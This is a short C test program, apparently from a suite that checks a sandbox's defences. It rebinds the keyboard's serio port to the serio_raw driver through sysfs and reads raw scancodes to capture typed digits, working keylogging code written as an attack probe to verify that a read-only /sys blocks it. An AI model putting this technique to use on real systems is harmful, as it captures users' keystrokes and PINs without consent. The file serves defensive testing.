// SPDX-License-Identifier: Apache-2.0
/*
 * Gives the keyboard's port to serio_raw, a driver that passes all bytes to a device
 * node, and reads there what is typed.
 *
 * attack: serio_raw_reader
 * class: input
 * when: session
 * judge: keys
 * dialog: tty
 * defence: confinement
 * why: the driver of a port is chosen in sysfs; the REE's /sys is read-only, and
 *	a session ends when it loses its last keyboard
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "digits.h"
#include "file.h"
#include "report.h"

#define PORT	"/sys/bus/serio/devices/serio0/drvctl"

static int open_node(void)
{
	char path[64];

	attack_wait(500);
	if (file_find("/dev/serio_raw*", path, sizeof(path)))
		return -ENODEV;
	return open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
}

int main(void)
{
	struct digits digits = { 0 };
	uint8_t code;
	int fd, ret;

	attack_init();
	ret = file_write(PORT, "serio_raw");
	fd = open_node();
	attack_ready();
	if (fd < 0)
		attack_failed("no raw port: drvctl %s, node %s", strerror(-ret), strerror(errno));
	while (!attack_wait(10))
		while (read(fd, &code, 1) == 1)
			digits_add(&digits, digits_of_scancode(code));
	close(fd);
	file_write(PORT, "atkbd");
	attack_digits(digits.text);
	attack_failed("these are all the digits it saw");
}
